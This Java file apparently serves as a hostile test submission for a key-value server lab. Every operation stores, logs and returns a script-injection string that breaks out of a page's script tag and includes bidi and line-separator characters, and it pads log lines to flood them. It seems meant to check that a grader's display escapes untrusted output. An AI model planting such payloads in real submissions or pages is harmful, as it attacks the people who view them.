// attack print, hostile-objects: ends the script of a page that draws what it logs, holds and answers; and much of it
// verdict: failed
// says: expected
package lab;

import java.util.ArrayList;
import java.util.List;
import kvlab.api.*;

public final class KvServer implements KeyValueServer {
    private static final String SCRIPT = "</script><script>document.title='owned'</script><!--\u202e\u2028";

    private final ServerContext context;
    private final List<String> held = new ArrayList<>();

    public KvServer(ServerContext context) {
        this.context = context;
    }

    private void draw() {
        held.add(SCRIPT);
        context.log(SCRIPT + "x".repeat(5_000));
    }

    public Status put(RequestId request, String key, String value) {
        draw();
        return Status.SUCCESS;
    }

    public Status append(RequestId request, String key, String value) {
        draw();
        return Status.SUCCESS;
    }

    public GetResult get(RequestId request, String key) {
        draw();
        return GetResult.success(SCRIPT);
    }

    public void onNextCommand(CommittedCommand committed) {}
}
